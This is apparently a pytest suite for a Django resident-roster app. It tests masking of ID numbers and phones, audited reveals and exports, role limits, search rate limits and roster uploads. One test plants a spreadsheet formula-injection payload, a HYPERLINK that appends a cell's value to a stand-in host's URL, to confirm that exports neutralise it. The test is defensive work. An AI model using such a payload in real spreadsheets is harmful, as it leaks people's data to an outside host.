import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from doorstep.core.models import AuditAction, AuditEntry
from doorstep.territory.actions import IDENTIFIER_SEARCHES
from doorstep.territory.models import Resident
from doorstep.testing import (
    client_for,
    make_building,
    make_community,
    make_household,
    make_resident,
)
from doorstep.testing.rosters import csv_bytes, good_rows, row

pytestmark = pytest.mark.django_db

ID = "11010519491231002X"


@pytest.fixture
def person(community):
    return make_resident(
        make_household(make_building(community)), name="王小明", id_number=ID, phone="13812345678"
    )


def test_pages_show_residents_masked(worker, person):
    client = client_for(worker)
    for url in (
        reverse("territory:residents"),
        reverse("territory:resident", args=[person.pk]),
        reverse("territory:building", args=[person.household.unit.building_id]),
    ):
        html = client.get(url).content.decode()
        assert "王*明" in html, url
        assert ID not in html and "13812345678" not in html and "王小明" not in html, url


def test_a_reveal_shows_the_full_details_and_is_audited(worker, person):
    response = client_for(worker).post(
        reverse("territory:resident_reveal", args=[person.pk]),
        {"reason": "calling about a missed sample"},
    )
    assert response.status_code == 200
    assert ID in response.content.decode()
    entry = AuditEntry.objects.get(action=AuditAction.REVEAL)
    assert (entry.username, entry.object_id, entry.reason) == (
        worker.username,
        str(person.pk),
        "calling about a missed sample",
    )


def test_a_reveal_without_a_reason_is_refused_and_not_audited(worker, person):
    response = client_for(worker).post(
        reverse("territory:resident_reveal", args=[person.pk]), {"reason": " "}
    )
    assert response.status_code == 400
    assert ID not in response.content.decode()
    assert "Say why" in response.content.decode()
    assert not AuditEntry.objects.exists()


def test_an_export_is_masked_by_default_and_audited(worker, person):
    response = client_for(worker).get(
        reverse("territory:community_export", args=[person.community_id])
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [c for r in sheet.iter_rows(values_only=True) for c in r]
    assert "1101**************" in values and ID not in values
    entry = AuditEntry.objects.get(action=AuditAction.EXPORT)
    assert entry.detail == {"rows": 1, "masked": True, "community": person.community.name}


def test_a_full_export_needs_a_reason_and_records_it(worker, person):
    url = reverse("territory:community_export", args=[person.community_id])
    assert client_for(worker).post(url, {"reason": ""}).status_code == 400
    response = client_for(worker).post(url, {"reason": "grid workers phone the untested"})
    values = [
        c
        for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
        for c in r
    ]
    assert ID in values and "13812345678" in values
    assert (
        AuditEntry.objects.get(action=AuditAction.EXPORT).reason
        == "grid workers phone the untested"
    )


def test_the_code_sheet_has_a_qr_per_member_and_is_audited(leader, person):
    make_resident(person.household, name="王大明")
    response = client_for(leader).get(
        reverse("territory:household_codes", args=[person.household_id])
    )
    html = response.content.decode()
    assert html.count("<svg") == 2
    assert person.person_code_display in html
    assert AuditEntry.objects.get(action=AuditAction.PRINT).detail == {"people": 2}


def search(user, q):  # type: ignore[no-untyped-def]
    return client_for(user).get(reverse("territory:residents"), {"q": q})


def test_a_worker_finds_people_by_code_room_and_shown_name_unaudited(worker, person):
    make_resident(make_household(make_building(person.community), room="202"), name="李四")
    for q in (person.person_code.lower(), "101", "王*明"):
        html = search(worker, q).content.decode()
        assert "王*明" in html and "李*" not in html, q
    assert not AuditEntry.objects.exists()


def test_a_search_by_name_or_document_number_is_audited_with_kind_and_count_only(worker, person):
    for q in (ID, "王小明"):
        html = search(worker, q).content.decode()
        assert "王*明" in html, q
    entries = AuditEntry.objects.filter(action=AuditAction.SEARCH).order_by("id")
    assert [e.detail for e in entries] == [
        {"kind": "document", "found": 1},
        {"kind": "name", "found": 1},
    ]
    assert all(ID not in str(e.detail) and "王小明" not in str(e.detail) for e in entries)


def test_a_role_that_cannot_reveal_gets_no_yes_or_no_on_a_name_or_number(canvasser, person):
    for q in (ID, "王小明", "王小"):
        response = search(canvasser, q)
        html = response.content.decode()
        assert "Your role finds people by person code, room number" in html
        assert "王*明" not in html, q
    assert not AuditEntry.objects.exists()
    assert "王*明" in search(canvasser, person.person_code).content.decode()
    assert "王*明" in search(canvasser, "王*明").content.decode()


def test_searches_by_identifier_are_rate_limited_per_user(worker, person):

    for n in range(IDENTIFIER_SEARCHES.tries):
        assert search(worker, f"张{n}").status_code == 200
    refused = search(worker, "王小明")
    assert refused.status_code == 429 and "王*明" not in refused.content.decode()
    # Codes and rooms are not limited: the day's work goes on.
    assert "王*明" in search(worker, person.person_code).content.decode()


def test_the_resident_list_runs_a_fixed_number_of_queries(
    worker, community, django_assert_max_num_queries
):
    for n in range(30):
        make_resident(
            make_household(make_building(community, f"{n % 3}号楼"), room=f"{n}01"), name=f"居民{n}"
        )
    client = client_for(worker)
    with django_assert_max_num_queries(12):
        client.get(reverse("territory:residents"))


def test_the_community_page_lists_buildings_nearest_first(
    worker, community, django_assert_max_num_queries
):
    for position in (3, 1, 2):
        make_building(community, f"{position}号楼", position=position)
    client = client_for(worker)
    with django_assert_max_num_queries(10):
        html = client.get(reverse("territory:community", args=[community.pk])).content.decode()
    assert html.index("1号楼") < html.index("2号楼") < html.index("3号楼")


def _upload(client, data, name="roster.csv"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(reverse("territory:roster_upload"), {"file": SimpleUploadedFile(name, data)})


def test_the_upload_page_lists_every_bad_row_and_writes_nothing(worker):
    rows = good_rows(3)
    rows[1] = row(1, 手机号="12345")
    response = _upload(client_for(worker), csv_bytes(rows))
    assert response.status_code == 400
    html = response.content.decode()
    assert "row 3" in html and "11 digits" in html
    assert Resident.objects.count() == 0


def test_the_upload_page_imports_a_good_file(worker):
    response = _upload(client_for(worker), csv_bytes(good_rows(3)))
    assert response.status_code == 200
    assert "3 created" in response.content.decode()
    assert Resident.objects.count() == 3


def test_the_upload_page_says_when_no_file_was_chosen(worker):
    response = client_for(worker).post(reverse("territory:roster_upload"), {})
    assert response.status_code == 400
    assert "Choose the roster file" in response.content.decode()


def test_the_template_has_the_chinese_headers_as_text_columns(worker):
    response = client_for(worker).get(reverse("territory:roster_template"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[:5] == ["社区", "楼栋", "单元", "房号", "姓名"]
    assert sheet["G2"].number_format == "@"


def test_a_role_that_may_not_reveal_is_not_offered_the_form(canvasser, person):
    html = (
        client_for(canvasser).get(reverse("territory:resident", args=[person.pk])).content.decode()
    )
    assert "王*明" in html
    assert reverse("territory:resident_reveal", args=[person.pk]) not in html


def test_a_name_that_looks_like_a_formula_stays_text_and_an_odd_community_name_exports(worker):

    odd = make_community("A/B:C?[1]*社区")
    worker.communities.add(odd)
    make_resident(
        make_household(make_building(odd)), name='=HYPERLINK("http://x/?"&E2,"x")', id_number=ID
    )
    url = reverse("territory:community_export", args=[odd.pk])
    response = client_for(worker).post(url, {"reason": "grid workers phone the untested"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "A B C  1  社区"
    cells = [c for row in sheet.iter_rows() for c in row]
    formula = next(c for c in cells if "HYPERLINK" in str(c.value))
    assert formula.data_type == "s" and formula.value.startswith("'=")
    assert not any(c.data_type == "f" for c in cells)


def test_a_control_character_already_in_a_name_does_not_fail_the_export(worker, community):
    """Rosters refuse them now; a name that came in before, or by another path, still exports."""
    make_resident(make_household(make_building(community, "7号楼")), name="\x01王五", id_number=ID)
    url = reverse("territory:community_export", args=[community.pk])
    response = client_for(worker).post(url, {"reason": "grid workers phone the untested"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert "\ufffd王五" in [c.value for row in sheet.iter_rows() for c in row]
